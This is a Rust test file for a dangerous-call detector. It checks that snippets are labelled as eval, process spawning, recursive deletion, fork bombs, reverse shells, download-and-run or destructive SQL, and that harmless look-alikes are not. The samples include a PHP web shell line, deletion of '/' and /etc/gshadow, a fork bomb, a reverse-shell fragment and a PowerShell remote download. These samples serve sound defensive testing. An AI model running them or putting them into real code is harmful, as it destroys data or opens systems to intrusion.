use super::super::apis::APIS;
use super::first;

#[test]
fn every_interface_has_an_example_that_is_found() {
    let mut missed = Vec::new();
    for api in APIS {
        assert!(
            api.names.windows(2).all(|pair| pair[0] < pair[1]),
            "{:?} are not sorted",
            api.names
        );
        let fence = match api.families.first() {
            Some(super::super::language::Family::Perl) if api.families.len() == 1 => "perl",
            _ => "",
        };
        let text = format!("```{fence}\n{}\n```", api.example);
        if first(&text) != api.category {
            missed.push(api.example);
        }
    }
    assert_eq!(missed, [""; 0]);
}

#[test]
fn calls_are_found() {
    let mut missed = Vec::new();
    for (category, texts) in [
        (
            "code_eval",
            &[
                "result = eval(user_input)",
                "exec(compile(src, '<string>', 'exec'))",
                "print(eval(\"os.getcwd()\"))",
                "if eval(x):\n    pass",
            ][..],
        ),
        (
            "process_spawn",
            &[
                "import os as o\no.system('ls')",
                "from os import popen as pos\npos('ls')",
                "from subprocess import Popen as pop\npop(['ls'], shell=False)",
                "from subprocess import Popen, call, run\nrun(\"true\")",
                "from subprocess import (\n    run,\n    call as c,\n)\nc(x)",
                "from os import *\nsystem(cmd)",
                "import subprocess as sp\nsp.check_output(x)",
                "__import__('os').system('id')",
                "importlib.import_module('os').system('id')",
                "getattr(os, 'system')('id')",
                "const { exec } = require('child_process');",
                "import child from 'node:child_process'; child.exec(com)",
                "await import('child_process')",
                "<?php system($_GET['cmd']); ?>",
                "Runtime.getRuntime().exec(\"/bin/sh -c \" + input);",
                "`#{params[:cmd]}`",
                "system(\"tar xf #{name}\")",
                "system \"rm #{x}\"",
                "x = %x(ls #{dir})",
                "```rb\n`#{x} -l`\n```",
                "use std::process::Command;\nlet c = Command::new(\"ls\");",
            ],
        ),
        (
            "recursive_delete",
            &[
                "shutil.rmtree(base_dir)",
                "fs.rmSync('/', { recursive: true, force: true })",
            ],
        ),
        (
            "file_delete",
            &["os.unlink(path)", "os.remove(\"/etc/gshadow\")"],
        ),
        ("fork_bomb", &["import os\nwhile True:\n    os.fork()"]),
        (
            "reverse_shell",
            &["import socket,os\ns=socket.socket()\nos.dup2(s.fileno(), 0)"],
        ),
        (
            "pipe_to_shell",
            &["$code = (New-Object Net.WebClient).DownloadString('http://a.example/p.ps1')"],
        ),
        (
            "sql_destructive",
            &[
                "cur.execute(\"DROP TABLE users\")",
                "```sql\nDELETE FROM users;\n```",
            ],
        ),
    ] {
        texts
            .iter()
            .filter(|text| first(text) != category)
            .for_each(|text| missed.push((category, *text)));
    }
    assert_eq!(missed, []);
}

#[test]
fn what_only_looks_like_a_call_is_not() {
    let texts = [
        "model.eval()\nwith torch.no_grad():\n    y = model(x)",
        "import ast\nv = ast.literal_eval(s)",
        "const m = /a(b)/.exec(text);",
        "cursor.execute('SELECT 1')",
        "db.exec('CREATE TABLE t (id int)')",
        "executor.submit(fn, 3)",
        "def eval(self):\n    self.eval()",
        "class A {\n  exec(query: string): void {\n  }\n}",
        "def evaluate(model, data):\n    return model.score(data)",
        "df.eval('a + b')",
        "file_path.unlink()",
        "path.unlink(missing_ok=True)",
        "# eval(x) is bad\nprint(1)",
        "x = 1  # os.system('ls')",
        "// eval(x)\nlet a = 1;",
        "/* exec(x) */ int a;",
        "print('eval(x)')",
        "\"\"\"Never call eval(x) or os.system(y).\"\"\"\nx = 1",
        "setTimeout(() => go(), 10)",
        "let x = thread::spawn(move || 1);",
        "Command::new(\"app\").arg(Arg::new(\"x\"))",
        "importlib.import_module('json').loads(x)",
        "jest.mock('child_process');",
        "fs.rm(path, cb)",
        "regex.exec(s); hash.call(x); app.run(x)",
        "foo = eval",
    ];
    let found: Vec<_> = texts
        .iter()
        .filter(|text| !first(text).is_empty())
        .collect();
    assert_eq!(found, [&""; 0]);
}
